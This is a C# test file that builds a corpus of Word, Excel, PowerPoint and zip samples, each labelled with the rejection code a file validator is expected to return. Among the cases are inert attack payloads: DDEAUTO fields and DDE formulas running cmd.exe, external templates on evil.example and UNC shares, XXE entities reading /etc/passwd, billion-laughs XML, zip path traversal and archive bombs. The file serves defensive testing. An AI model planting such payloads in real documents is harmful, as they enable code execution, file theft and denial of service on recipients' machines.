using System.IO.Compression;
using System.Text;
using BangVang.App.Files;
using BangVang.Domain.Editions;
using BangVang.Testing.Files;

namespace BangVang.App.Tests.Files;

public static partial class FileCorpus
{
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];

    private static IEnumerable<CorpusFile> Office() =>
        OfficeKinds.SelectMany(OfAnyKind).Concat(Word()).Concat(Excel()).Concat(PowerPoint());

    private static IEnumerable<CorpusFile> OfAnyKind(FileKind kind)
    {
        OfficeSample Sample() => OfficeSample.Of(kind);
        CorpusFile Case(string title, OfficeSample sample, string? code) => new($"{kind} {title}", sample.ToBytes(), $"x.{kind.Extensions()[0]}", code);
        var folder = Sample().Folder;
        var chart = OfficeSample.Of(FileKind.Xlsx).ToBytes();
        var macroChart = OfficeSample.Of(FileKind.Xlsx).Part("xl/vbaProject.bin", Ole).ToBytes();

        yield return Case("with a link to a page", Sample().Relation("hyperlink", "https://vi.wikipedia.org/wiki/JavaScript", true), null);
        yield return Case("with a mail link", Sample().Relation("hyperlink", "mailto:a@b.vn", true), null);
        yield return Case("with a relative link", Sample().Relation("hyperlink", "phu-luc.docx#trang=2", true), null);
        yield return Case("with a picture", Sample().Part($"{folder}/media/image1.png", MediaSample.Png()).Relation("image", "media/image1.png"), null);
        yield return Case("with a chart", Sample().Part($"{folder}/embeddings/Microsoft_Excel_Sheet1.xlsx", chart), null);
        yield return Case("with custom properties", Sample().Part("docProps/app.xml", "<Properties><Company>A &amp; B</Company></Properties>").RootRelation("extended-properties", "docProps/app.xml"), null);
        yield return Case("with printer settings", Sample().Part($"{folder}/printerSettings/printerSettings1.bin", new byte[400]), null);
        yield return Case("with a drawing that is not well formed", Sample().Part($"{folder}/drawings/vmlDrawing1.vml", "<xml><div>a<br>b</div></xml>"), null);
        yield return Case("with an XML part in UTF-16", Sample().Part("customXml/item1.xml", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<a>Tiếng Việt</a>")]), null);
        yield return Case("with a comment on markup", Sample().Part("customXml/item1.xml", "<a>&lt;!DOCTYPE a&gt;</a>"), null);

        yield return Case("with a macro project", Sample().Part($"{folder}/vbaProject.bin", Ole).Type($"{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "files.macro");
        yield return Case("with a macro project by name alone", Sample().Part($"{folder}/VBAPROJECT.BIN", Ole), "files.macro");
        yield return Case("with a macro project by type alone", Sample().Part($"{folder}/x.bin", new byte[20]).Type($"{folder}/x.bin", "application/vnd.ms-office.vbaProject"), "files.macro");
        yield return Case("with a macro project by relation alone", Sample().Relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin"), "files.macro");
        yield return Case("with macros by its main type", Sample().MainType($"application/vnd.ms-{(kind is FileKind.Docx ? "word.document" : kind is FileKind.Xlsx ? "excel.sheet" : "powerpoint.presentation")}.macroEnabled.main+xml"), "files.macro");
        yield return Case("as a template", Sample().MainType("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"), "files.kind_refused");
        yield return Case("of an unknown main type", Sample().MainType("application/x-unknown"), "files.kind_refused");
        yield return Case("with two main parts", Sample().RootRelation("officeDocument", "other.xml").Part("other.xml", "<a/>"), "files.damaged");

        foreach (var target in new[] { "http://evil.example/x.dotm", "https://evil.example/t", "file:///C:/Users/a/t.dotm", @"\\10.0.0.1\share\t.dotm", "//10.0.0.1/share/t", "mhtml:http://e/x" })
            yield return Case($"with a template from {target}", Sample().Relation("attachedTemplate", target, true), "files.external_link");
        foreach (var type in new[] { "image", "frame", "subDocument", "externalLinkPath", "video", "audio", "slideMaster", "customXml", "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" })
            yield return Case($"with {type} fetched from outside", Sample().Relation(type, "http://evil.example/x", true), "files.external_link");
        foreach (var target in new[] { "file:///etc/passwd", @"\\10.0.0.1\share", "javascript:alert(1)", "ms-msdt:/id", "//10.0.0.1/x", " FILE:///c:/x", "search-ms:query=x" })
            yield return Case($"with a link to {target}", Sample().Relation("hyperlink", target, true), "files.external_link");
        yield return Case("with an address as an inner part", Sample().Relation("image", "http://evil.example/x"), "files.external_link");
        yield return Case("with a template from outside by a root relation", Sample().RootRelation("attachedTemplate", "http://evil.example/x", true), "files.external_link");
        yield return Case("with data connections", Sample().Relation("connections", "connections.xml").Part($"{folder}/connections.xml", "<connections/>"), "files.external_link");

        yield return Case("with an old object by relation", Sample().Relation("oleObject", "embeddings/oleObject1.bin"), "files.ole_object");
        yield return Case("with an old object by strict relation", Sample().Relation("http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject", "x.bin"), "files.ole_object");
        yield return Case("with an old object by type", Sample().Part($"{folder}/embeddings/x.bin", new byte[9]).Default("bin", "application/vnd.openxmlformats-officedocument.oleObject"), "files.ole_object");
        yield return Case("with an old object by its bytes", Sample().Part($"{folder}/media/image1.png", Ole), "files.ole_object");
        yield return Case("with ActiveX by relation", Sample().Relation("control", "activeX/activeX1.xml"), "files.active_content");
        yield return Case("with ActiveX by type", Sample().Part($"{folder}/activeX/activeX1.xml", "<a/>").Type($"{folder}/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"), "files.active_content");

        yield return Case("with a program", Sample().Part($"{folder}/media/a.png", [.. "MZ"u8, .. new byte[99]]), "files.embedded_file");
        yield return Case("with a PDF", Sample().Part($"{folder}/media/a.png", new PdfSample().ToBytes()), "files.embedded_file");
        yield return Case("with a shell script", Sample().Part($"{folder}/media/a.bin", "#!/bin/sh\nexit 0"), "files.embedded_file");
        foreach (var ending in new[] { "exe", "js", "vbs", "html", "hta", "ps1", "lnk", "docm", "xlsm", "rtf" })
            yield return Case($"with a part .{ending}", Sample().Part($"{folder}/embeddings/a.{ending}", "x1234567"), "files.embedded_file");
        yield return Case("with an imported page", Sample().Relation("aFChunk", "chunk.dat").Part($"{folder}/chunk.dat", "<html/>"), "files.embedded_file");
        yield return Case("with a plain archive", Sample().Part($"{folder}/embeddings/a.bin", OfficeSample.Zip([("a.txt", [1])])), "files.embedded_file");
        yield return Case("with a chart that has macros", Sample().Part($"{folder}/embeddings/a.xlsx", macroChart), "files.macro");
        yield return Case("with a chart three deep", Sample().Part($"{folder}/embeddings/a.xlsx", OfficeSample.Of(FileKind.Xlsx).Part("xl/embeddings/a.xlsx", OfficeSample.Of(FileKind.Xlsx).Part("xl/embeddings/a.xlsx", chart).ToBytes()).ToBytes()), "files.embedded_file");

        foreach (var (title, xml) in new[]
        {
            ("a document type", "<!DOCTYPE a><a/>"),
            ("an outside entity", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
            ("a billion laughs", "<!DOCTYPE a [<!ENTITY b \"ha\"><!ENTITY c \"&b;&b;&b;\">]><a>&c;</a>"),
            ("a document type behind much blank", $"<?xml version=\"1.0\"?>{new string(' ', 70_000)}<!DOCTYPE a><a/>"),
        })
        {
            yield return Case($"with {title}", Sample().Part("customXml/item1.xml", xml), "files.xml_dtd");
            yield return Case($"with {title} in a drawing", Sample().Part($"{folder}/drawings/d.vml", xml), "files.xml_dtd");
            yield return Case($"with {title} in UTF-16", Sample().Part("customXml/item1.xml", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(xml)]), "files.xml_dtd");
        }
        yield return Case("with a document type in the list of types", Sample().Part("[Content_Types].xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://e/\">]><Types/>"), "files.xml_dtd");
        yield return Case("with a document type in the relations", Sample().Part("_rels/.rels", "<!DOCTYPE a><Relationships/>"), "files.xml_dtd");
        yield return Case("with a part cut off", Sample().Part("customXml/item1.xml", "<a><b>"), "files.damaged");
        yield return Case("with an empty part", Sample().Part("customXml/item1.xml", ""), "files.damaged");
        yield return Case("with a part in an unknown encoding", Sample().Part("customXml/item1.xml", "<?xml version=\"1.0\" encoding=\"utf-7\"?><a/>"), "files.damaged");
        yield return Case("with an endless attribute", Sample().Part("customXml/item1.xml", $"<a b=\"{Noise(3_000_000)}\"/>"), "files.too_complex");
        yield return Case("without a list of types", Sample().Part("[Content_Types].xml", "<Types/>"), "files.kind_refused");
    }

    private static string Noise(int length) => Convert.ToHexString(SampleFiles.PdfOf(length / 2))[..length];

    private static string Fields(params string[] pieces) =>
        $"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{string.Concat(pieces.Select(p => $"<w:r><w:instrText xml:space=\"preserve\">{p}</w:instrText></w:r>"))}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static IEnumerable<CorpusFile> Word()
    {
        (string Title, string Content, string? Code)[] cases =
        [
            ("page numbers", Fields(" PAGE \\* MERGEFORMAT "), null),
            ("a table of contents", Fields("TOC \\o \"1-3\" \\h"), null),
            ("a link field", Fields("HYPERLINK \"https://a.vn\""), null),
            ("text that speaks of DDE", "<w:p><w:r><w:t>DDEAUTO c:\\\\x</w:t></w:r></w:p>", null),
            ("DDE", Fields("DDE excel \"a\" \"b\""), "files.dde"),
            ("DDEAUTO", Fields(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "), "files.dde"),
            ("DDEAUTO in small letters", Fields("ddeauto c:\\\\x"), "files.dde"),
            ("DDEAUTO in pieces", Fields("D", "DEA", "UTO", " c:\\\\x"), "files.dde"),
            ("DDEAUTO in a simple field", "<w:fldSimple w:instr=' DDEAUTO \"x\" '/>", "files.dde"),
            ("DDEAUTO without a field", "<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>", "files.dde"),
            ("DDEAUTO behind quotes", Fields("\"DDEAUTO\" x"), "files.dde"),
            ("DDEAUTO spelt by numbers", $"<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>{Fields("QUOTE 68 68 69")}</w:p>", "files.dde"),
            ("a linked object", Fields("LINK Excel.Sheet.12 \"c:\\\\a.xlsx\""), "files.external_link"),
            ("text from outside", Fields("INCLUDETEXT \"\\\\\\\\10.0.0.1\\\\a.docx\""), "files.external_link"),
            ("a picture from outside", Fields("INCLUDEPICTURE \"http://e.example/x.png\""), "files.external_link"),
        ];
        foreach (var (title, content, code) in cases)
        {
            yield return new($"Word with {title}", OfficeSample.Of(FileKind.Docx).Body(OfficeSample.Word(content)).ToBytes(), "x.docx", code);
            yield return new($"Word with {title} in the header", OfficeSample.Of(FileKind.Docx).Part("word/header1.xml", $"<w:hdr {W}>{content}</w:hdr>").ToBytes(), "x.docx", code);
        }
    }

    private static IEnumerable<CorpusFile> Excel()
    {
        (string Formula, string? Code)[] formulas =
        [
            ("SUM(A1:A9)", null), ("IF(A1=\"a|b\",1,0)", null), ("'Bảng | phụ'!A1", null), ("RECALL(1)", null), ("HYPERLINK(\"https://a.vn\",\"a\")", null),
            ("cmd|'/C calc'!A0", "files.dde"), ("'cmd'|'/c calc'!A1", "files.dde"), ("1+DDE|x!A1", "files.dde"),
            ("WEBSERVICE(\"http://e.example/?\"&amp;A1)", "files.active_content"), ("_xlfn.WEBSERVICE(\"http://e\")", "files.active_content"),
            ("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJ\")", "files.active_content"), ("call (\"x\")", "files.active_content"), ("EXEC(\"calc\")", "files.active_content"),
            ("RTD(\"a\",,\"b\")", "files.active_content"), ("REGISTER(\"a\",\"b\")", "files.active_content"),
        ];
        const string Main = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
        foreach (var (formula, code) in formulas)
        {
            yield return new($"Excel with {formula} in a cell", OfficeSample.Of(FileKind.Xlsx).Part("xl/worksheets/sheet1.xml", $"<worksheet {Main}><sheetData><row><c r=\"A1\"><f>{formula}</f><v>1</v></c></row></sheetData></worksheet>").ToBytes(), "x.xlsx", code);
            yield return new($"Excel with {formula} as a name", OfficeSample.Of(FileKind.Xlsx).Body($"<workbook {Main}><definedNames><definedName name=\"n\">{formula}</definedName></definedNames></workbook>").ToBytes(), "x.xlsx", code);
        }
        yield return new("Excel with text like a formula", OfficeSample.Of(FileKind.Xlsx).Part("xl/sharedStrings.xml", $"<sst {Main}><si><t>=cmd|'/C calc'!A0</t></si></sst>").ToBytes(), "x.xlsx", null);
        yield return new("Excel with a DDE link", OfficeSample.Of(FileKind.Xlsx).Part("xl/externalLinks/externalLink1.xml", $"<externalLink {Main}><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>").ToBytes(), "x.xlsx", "files.dde");
        yield return new("Excel with an object link", OfficeSample.Of(FileKind.Xlsx).Part("xl/externalLinks/externalLink1.xml", $"<externalLink {Main}><oleLink progId=\"x\"/></externalLink>").ToBytes(), "x.xlsx", "files.ole_object");
        yield return new("Excel with a macro sheet", OfficeSample.Of(FileKind.Xlsx).Part("xl/macrosheets/sheet1.xml", "<a/>").Type("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml").ToBytes(), "x.xlsx", "files.macro");
        yield return new("Excel with a macro sheet by relation", OfficeSample.Of(FileKind.Xlsx).Relation("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml").ToBytes(), "x.xlsx", "files.macro");
    }

    private static IEnumerable<CorpusFile> PowerPoint()
    {
        foreach (var (action, code) in new (string, string?)[]
        {
            ("ppaction://hlinkshowjump?jump=nextslide", null), ("ppaction://hlinksldjump", null), ("ppaction://media", null),
            ("ppaction://program?calc.exe", "files.active_content"), ("PPACTION://PROGRAM", "files.active_content"), ("ppaction://macro?name=x", "files.macro"), ("ppaction://ole?verb=0", "files.ole_object"),
        })
            foreach (var element in new[] { "hlinkClick", "hlinkHover", "hlinkMouseOver" })
                yield return new($"PowerPoint with {action} on {element}", OfficeSample.Of(FileKind.Pptx).Part("ppt/slides/slide1.xml", $"<p:sld xmlns:p=\"p\" xmlns:a=\"a\"><a:{element} action=\"{action}\"/></p:sld>").ToBytes(), "x.pptx", code);
    }

    private static IEnumerable<CorpusFile> Zips()
    {
        var good = OfficeSample.Of(FileKind.Docx).Part("word/media/image1.png", MediaSample.Png()).ToBytes();
        CorpusFile Case(string title, byte[] bytes, string? code) => new($"zip {title}", bytes, "x.docx", code);
        byte[] With(string name, byte[] content) => OfficeSample.Of(FileKind.Docx).Part(name, content).ToBytes();

        foreach (var name in new[] { "../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "word\\evil.xml", "C:/evil.xml", "word/./a.xml", "word//a.xml", "word/\u0001a.xml", ".. /a.xml" })
            yield return Case($"with a part named {name.Replace('\u0001', '?')}", With(name, "<a/>"u8.ToArray()), "files.archive_path");
        yield return Case("with a symbolic link", Patched(good, "word/media/image1.png", central: (e, _) => e[41] = 0xA1), "files.archive_path");
        yield return Case("under a password", Patched(good, "word/media/image1.png", central: (e, _) => e[8] |= 1, local: (e, _) => e[6] |= 1), "files.encrypted");
        yield return Case("under a password by the table alone", Patched(good, "word/media/image1.png", central: (e, _) => e[8] |= 1), "files.encrypted");
        yield return Case("packed in an unknown way", Patched(good, "word/media/image1.png", central: (e, _) => e[10] = 9, local: (e, _) => e[8] = 9), "files.damaged");
        yield return Case("with another method in the local header", Patched(good, "word/media/image1.png", local: (e, _) => e[8] = 0), "files.damaged");
        yield return Case("with another name in the local header", Patched(good, "word/media/image1.png", local: (e, _) => e[30] = (byte)'x'), "files.damaged");
        yield return Case("with a size too small", Patched(good, "word/document.xml", central: (e, _) => e[24] -= 5, local: (e, _) => e[22] -= 5), "files.archive_bomb");
        yield return Case("with a size too large", Patched(good, "word/document.xml", central: (e, _) => e[24] += 1, local: (e, _) => e[22] += 1), "files.damaged");
        yield return Case("with a wrong checksum", Patched(good, "word/document.xml", central: (e, _) => e[16] ^= 1), "files.damaged");
        yield return Case("with overlapping parts", Patched(good, "word/media/image1.png", central: (e, all) => Copy(all, Central(all, "word/document.xml") + 42, e, 42, 4)), "files.damaged");
        yield return Case("with a part beyond the end", Patched(good, "word/media/image1.png", central: (e, _) => e[45] = 0x7F), "files.damaged");
        yield return Case("with a comment", [.. good[..^2], 3, 0, .. "abc"u8], "files.damaged");
        yield return Case("with something behind", [.. good, .. "<html>"u8], "files.damaged");
        yield return Case("with something before", [.. "PK\u0003\u0004stub"u8, .. good], "files.damaged");
        yield return Case("cut in half", good[..(good.Length / 2)], "files.damaged");
        yield return Case("without its end", good[..^1], "files.damaged");
        yield return Case("of the first four bytes", good[..4], "files.damaged");
        yield return Case("with one part twice", OfficeSample.Zip([.. Parts(good), ("word/document.xml", "<a/>"u8.ToArray())]), "files.damaged");
        yield return Case("with one part in two spellings", OfficeSample.Zip([.. Parts(good), ("WORD/document.xml", "<a/>"u8.ToArray())]), "files.damaged");
        yield return Case("with more parts claimed", Patched(good, null, end: e => e[10]++), "files.damaged");
        yield return Case("that claims 60,000 parts", Patched(good, null, end: e => (e[10], e[11]) = (0x60, 0xEA)), "files.archive_too_many_parts");
        yield return Case("with 10,001 parts", OfficeSample.Zip([.. Parts(good), .. Enumerable.Range(0, 10_001).Select(i => ($"a/{i}.bin", Array.Empty<byte>()))], CompressionLevel.NoCompression), "files.archive_too_many_parts");
        yield return Case("that swells 1,000 times", With("word/media/a.bin", new byte[8 << 20]), "files.archive_bomb");
        yield return Case("that swells as XML", With("customXml/item1.xml", [.. "<a>"u8, .. Enumerable.Repeat((byte)' ', 6 << 20), .. "</a>"u8]), "files.archive_bomb");
        yield return Case("that claims 4 GB", Patched(good, "word/media/image1.png", central: (e, _) => (e[24], e[25], e[26], e[27]) = (0xFE, 0xFF, 0xFF, 0xFF)), "files.archive_bomb");
        yield return Case("stored without packing", OfficeSample.Zip(Parts(good), CompressionLevel.NoCompression), null);
        yield return Case("with folders", OfficeSample.Zip([.. Parts(good), ("word/media/", [])]), null);
    }

    private static List<(string, byte[])> Parts(byte[] zip)
    {
        using var archive = new ZipArchive(new MemoryStream(zip));
        return [.. archive.Entries.Select(e =>
        {
            using var stream = e.Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            return (e.FullName, copy.ToArray());
        })];
    }

    private delegate void Patch(Span<byte> entry, byte[] all);

    /// <summary>The same file with bytes of one entry of the table, of the header before the part, or of the end record changed.</summary>
    private static byte[] Patched(byte[] zip, string? part, Patch? central = null, Patch? local = null, Action<byte[]>? end = null)
    {
        byte[] all = [.. zip];
        if (part is not null)
        {
            var entry = Central(all, part);
            local?.Invoke(all.AsSpan(BitConverter.ToInt32(all, entry + 42)), all);
            central?.Invoke(all.AsSpan(entry), all);
        }
        if (end is null) return all;
        var tail = all[^22..];
        end(tail);
        return [.. all[..^22], .. tail];
    }

    private static void Copy(byte[] from, int start, Span<byte> to, int at, int count) => from.AsSpan(start, count).CopyTo(to[at..]);

    private static int Central(byte[] zip, string part)
    {
        var name = Encoding.UTF8.GetBytes(part);
        for (var at = BitConverter.ToInt32(zip, zip.Length - 6); ; at += 46 + BitConverter.ToUInt16(zip, at + 28) + BitConverter.ToUInt16(zip, at + 30) + BitConverter.ToUInt16(zip, at + 32))
            if (zip.AsSpan(at + 46, name.Length).SequenceEqual(name)) return at;
    }
}
